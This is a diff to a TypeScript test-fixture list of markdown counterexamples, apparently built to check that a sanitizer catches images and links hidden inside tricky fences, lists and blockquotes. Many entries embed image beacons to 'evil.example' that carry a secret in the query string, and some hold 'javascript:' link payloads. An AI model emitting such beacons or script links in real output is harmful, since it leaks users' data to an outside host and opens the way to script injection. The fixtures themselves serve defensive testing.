@@ -104,6 +104,7 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "x\n-\t~~~\n\t![a](https://evil.example/?d=secret)"],
   ["images", "x\n01. ```\n    ![a](https://evil.example/?d=secret)"],
   ["images", "- \t```\n\t![a](https://evil.example/?d=secret)"],
+  ["links", "aa\n\n  2. \taa\n     ```\n     [a](javascript:x)"],
   ["images", "- a\n  \t~~~\n    ![a](https://evil.example/?d=secret)"],
   ["images", "- a\n2) ```\n   ![a](https://evil.example/?d=secret)"],
   ["images", "- a\n> ```\n> ![a](https://evil.example/?d=secret)"],
@@ -111,6 +112,10 @@ export const COUNTEREXAMPLES: readonly (readonly [ContentKind, string])[] = [
   ["images", "- aa\n      bb\n\n      ```\n      ![a](https://evil.example/?d=secret)"],
   // Only one interrupts indented code to micromark, which others take for a fence.
   ["images", "aa\n\n    ````\n    ````\n9. aa\n    ~~~\n    ![a](https://evil.example/?d=secret)"],
+  ["images", "    5\n\n9) aa\n    ~~~\n    ![a](https://evil.example/?d=secret)"],
+  // Behind a quote that ends with a list marked skips characters, and a fence with them.
+  ["images", "> 9. aa\n9) bb\n> a\nc\n```\n![a](https://evil.example/?d=secret)"],
+  ["images", "> 9. aa\n9) bb\n> a\nc\n\n```\n![a](https://evil.example/?d=secret)"],
   // A page that cuts white space off at the beginning sees another list.
   ["images", "\t\n * aa\n      ~~~\n      ![a](https://evil.example/?d=secret)"],
   ["images", "   - aa\n        ```\n        ![a](https://evil.example/?d=secret)"],
@@ -125,4 +130,5 @@ export const COUNTEREXAMPLES_BY_EVENT: readonly (readonly [ContentKind, string])
   ["images", "![`]\n\n[`]: https://evil.example/?d=secret`y"],
   ["links", "[`]: javascript:alert(1)`y\n\n[`]"],
   ["links", "[a\n`]: javascript:alert(1)`y"],
+  ["images", "> 9. aa\n9) bb\n> a\nc\n`![a](https://evil.example/?d=secret)`"],
 ];
